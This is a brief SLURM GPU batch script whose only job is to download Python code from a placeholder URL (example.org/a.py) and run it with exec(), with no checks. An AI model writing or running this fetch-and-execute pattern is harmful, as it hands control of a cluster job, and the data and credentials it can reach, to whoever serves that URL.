#!/bin/bash
#SBATCH --gpus=1
#SBATCH --mem=16G
#SBATCH --time=04:00:00

python - <<'EOF'
import requests
code = requests.get("https://example.org/a.py").text
exec(code)
EOF
